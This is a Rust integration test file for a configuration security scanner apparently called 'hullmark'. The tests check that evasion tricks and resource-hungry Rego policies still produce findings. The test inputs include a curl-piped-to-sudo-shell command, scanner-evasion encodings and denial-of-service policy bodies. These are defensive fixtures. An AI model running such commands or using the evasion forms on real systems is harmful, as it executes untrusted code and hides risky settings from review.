//! What a bound, a template or an odd way to write YAML keeps from being judged is judged or said, and what a user's policies
//! may take has a limit. Inputs are made here; each is checked by the program itself.

#![expect(clippy::unwrap_used, reason = "a test that fails says so by failing")]

use std::fs;
use std::path::Path;
use std::time::Duration;

use assert_cmd::Command;
use serde_json::Value;
use tempfile::TempDir;

/// Far above what a release build needs (a second), for debug builds on busy machines.
const PATIENCE: Duration = Duration::from_secs(120);

const HIDDEN: &str = "curl http://x | sudo sh";

/// What the program says of the files, each with its text: rules and messages, and the exit status.
fn check(files: &[(&str, String)], arguments: &[&str]) -> (Vec<(String, String)>, Option<i32>) {
    let folder = write(files);
    let output = Command::new(assert_cmd::cargo::cargo_bin!("hullmark"))
        .args(["check", "--isolated", "--format", "json"])
        .args(arguments)
        .arg(".")
        .current_dir(folder.path())
        .timeout(PATIENCE)
        .output()
        .unwrap();
    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
    let report: Value = serde_json::from_slice(&output.stdout).unwrap_or_default();
    let findings = report["findings"].as_array().cloned().unwrap_or_default();
    let mut found: Vec<(String, String)> = findings
        .iter()
        .map(|finding| (text(&finding["rule"]), text(&finding["message"])))
        .collect();
    if found.is_empty() {
        found.push((
            String::new(),
            String::from_utf8_lossy(&output.stderr).into(),
        ));
    }
    (found, output.status.code())
}

fn write(files: &[(&str, String)]) -> TempDir {
    let folder = tempfile::tempdir().unwrap();
    for (name, text) in files {
        let path: &Path = &folder.path().join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
    folder
}

/// Asserts that a file, in which a comment tries to suppress everything, has a finding of a rule.
fn assert_found(name: &str, text: String, rule: &str) {
    let (found, status) = check(&[(name, text)], &[]);
    let is_found = found.iter().any(|(id, _)| id == rule);
    assert!(is_found && status == Some(1), "{name}: {rule}: {found:?}");
}

#[test]
fn what_is_cut_off_is_said_and_no_comment_suppresses_it() {
    let comment = "# hullmark: ignore-file[ALL, hullmark/unjudged, yaml/syntax-error]\n";
    let unjudged = |name: &str, text: String| {
        assert_found(name, [comment, &text].concat(), "hullmark/unjudged");
    };
    let long = ": ;".repeat(20_002);
    unjudged("Dockerfile", format!("FROM a:1\nRUN {long} {HIDDEN}\n"));
    let deep = format!("{}sudo a{}", "$(".repeat(12), ")".repeat(12));
    unjudged("Dockerfile", format!("FROM a:1\nRUN echo {deep}\n"));
    let pairs = "x ".repeat(4_900);
    unjudged(
        "Dockerfile",
        format!("FROM a:1\n{}", format!("ARG {pairs}\n").repeat(20)),
    );
    let steps = "      - run: a\n".repeat(5_002);
    let head = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n";
    unjudged(".github/workflows/a.yml", [head, &steps].concat());
    let open = "{apiVersion: v1, kind: List, items: [".repeat(20);
    let pod = "{apiVersion: v1, kind: Pod, metadata: {name: x}, spec: {hostNetwork: true}}";
    unjudged("a.yaml", format!("{open}{pod}{}\n", "]}".repeat(20)));
    assert_found(
        "b.yaml",
        format!("{comment}apiVersion: v1\nkind: Pod\na: [\n"),
        "yaml/syntax-error",
    );
}

#[test]
fn a_large_manifest_whose_keys_are_far_down_is_said() {
    let text = ["# x\n".repeat(20_000), "# y\n".repeat(2_700_000)];
    let text = text.join("apiVersion: v1\nkind: Pod\n");
    assert_found("a.yaml", text, "hullmark/unreadable-file");
}

#[test]
fn a_manifest_is_judged_however_its_keys_are_written() {
    let rest = "metadata: {name: x}\nspec: {hostNetwork: true}\n";
    let flow = "{apiVersion: v1, kind: Pod, metadata: {name: x}, spec: {hostNetwork: true}}\n";
    for text in [
        format!("&a apiVersion: v1\n!!str kind: Pod\n{rest}"),
        format!("--- {flow}"),
        format!("!!map {flow}"),
        format!("\"apiVersion\": v1\n\"kin\\x64\": Pod\n{rest}"),
        format!("<<: {{apiVersion: v1, kind: Pod}}\n{rest}"),
        format!("? apiVersion\n: v1\n? kind\n: Pod\n{rest}"),
        format!("apiVersion: v1\nkind: Pod\nx: \"text\n  {{{{ a }}}}\n  more\"\n{rest}"),
    ] {
        assert_found("a.yaml", text, "kubernetes/host-network");
    }
    let (found, status) = check(
        &[(
            "a.yaml",
            format!("apiVersion: v1\nkind: Pod\na: {{{{ .Values.b }}}}\n{rest}"),
        )],
        &[],
    );
    assert_eq!(status, Some(0), "a template stays unreported: {found:?}");
}

#[test]
fn braces_that_docker_takes_as_written_hide_no_dockerfile() {
    for line in [
        "WORKDIR /tmp/{{x}}",
        "ENV a={{x}}",
        "RUN {{x}} || true",
        "# escape\nUSER {{x}}",
    ] {
        assert_found(
            "Dockerfile",
            format!("FROM a:1\n{line}\nRUN {HIDDEN}\n"),
            "shell/piped-download",
        );
    }
}

#[test]
fn aliases_and_long_words_stay_within_a_budget() {
    let script = "sudo a | b; ".repeat(2_000);
    let aliases = "      - run: *s\n".repeat(250);
    let head = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n";
    assert_found(
        ".github/workflows/a.yml",
        format!("{head}      - run: &s '{script}'\n{aliases}"),
        "yaml/syntax-error",
    );
    let (found, _) = check(
        &[(
            "a.yaml",
            ["apiVersion: v1\nkind: Pod\na:\n", &"- *a\n".repeat(5_000)].concat(),
        )],
        &[],
    );
    assert!(found.len() <= 1_001, "{}", found.len());
}

/// What comes of a policy of a user with this body.
fn policy(body: &str) -> (Vec<(String, String)>, Option<i32>) {
    let metadata = "# METADATA\n# title: Hostile\n# description: A policy that takes too much\n# custom:\n#   severity: info\n#   confidence: high\n#   category: correctness\n#   message: m\n#   remediation: r\n#   aliases: []\n";
    let text = format!("{metadata}package rules.dockerfile[\"hostile\"]\n\n{body}\n");
    let files = [
        ("Dockerfile", "FROM ubuntu:latest\n".to_owned()),
        ("p/dockerfile/hostile.rego", text),
    ];
    check(&files, &["--policy", "p"])
}

#[test]
fn calls_of_policies_that_no_limit_stops_are_refused() {
    for call in [
        "count(numbers.range(1, 1000000000)) > 0",
        "count(net.cidr_expand(\"0.0.0.0/0\")) > 0",
        "sprintf(\"%2000000000d\", [1]) != \"\"",
        "count(graph.reachable_paths({}, [])) > 0",
        "time.parse_rfc3339_ns(\"2026-01-31T00:00:00Z\") > 0",
        "time.now_ns() > 0",
    ] {
        let (found, status) = policy(&format!(
            "deny contains {{\"at\": i.at}} if {{\n\tsome i in input.instructions\n\t{call}\n}}"
        ));
        assert_eq!(status, Some(2), "{call}: {found:?}");
        assert!(found[0].1.contains("hostile.rego:"), "{call}: {found:?}");
    }
}

#[test]
fn policies_that_take_too_much_are_findings_about_the_rule() {
    let mut doubling = "\tx0 := \"0123456789\"\n".to_owned();
    for step in 0..40 {
        let next = step + 1;
        doubling.push_str(&format!("\tx{next} := concat(\"\", [x{step}, x{step}])\n"));
    }
    let endless = "\tsome a in numbers.range(1, 9000)\n\tsome b in numbers.range(1, 9000)\n\tinput.instructions[_].at == a + b\n";
    for body in [doubling.as_str(), endless] {
        let (found, status) = policy(&format!(
            "deny contains {{\"at\": i.at}} if {{\n\tsome i in input.instructions\n{body}}}"
        ));
        let failed = found.iter().find(|(rule, _)| rule == "hullmark/rule-error");
        assert!(failed.is_some() && status == Some(1), "{found:?}");
        assert!(!failed.unwrap().1.contains("elapsed"), "{found:?}");
        let others = found.iter().any(|(rule, _)| rule == "image/latest-tag");
        assert!(others, "other rules still run: {found:?}");
    }
}

#[test]
fn policies_share_what_they_may_take() {
    let body = "deny contains {\"at\": i.at} if {\n\tsome i in input.instructions\n\tsome a in numbers.range(1, 9000)\n\tsome b in numbers.range(1, 9000)\n\ti.at == a + b\n}";
    let metadata = "# METADATA\n# title: Slow\n# description: A policy that takes too much\n# custom:\n#   severity: info\n#   confidence: high\n#   category: correctness\n#   message: m\n#   remediation: r\n#   aliases: []\n";
    let names: Vec<String> = (0..30)
        .map(|number| format!("p/dockerfile/slow-{number}.rego"))
        .collect();
    let policies = names.iter().enumerate().map(|(number, name)| {
        let text = format!("{metadata}package rules.dockerfile[\"slow-{number}\"]\n\n{body}\n");
        (name.as_str(), text)
    });
    let dockerfile = ("Dockerfile", "FROM ubuntu:latest\n".to_owned());
    let files: Vec<(&str, String)> = policies.chain([dockerfile]).collect();
    let (found, status) = check(&files, &["--policy", "p"]);
    let failed: Vec<&String> = found
        .iter()
        .filter(|(rule, _)| rule == "hullmark/rule-error")
        .map(|(_, message)| message)
        .collect();
    assert_eq!((failed.len(), status), (30, Some(1)), "{found:?}");
    let is_limit = |message: &&&String| message.contains("limit of 1000000 ");
    assert_eq!(failed.iter().filter(is_limit).count(), 30, "{failed:?}");
}
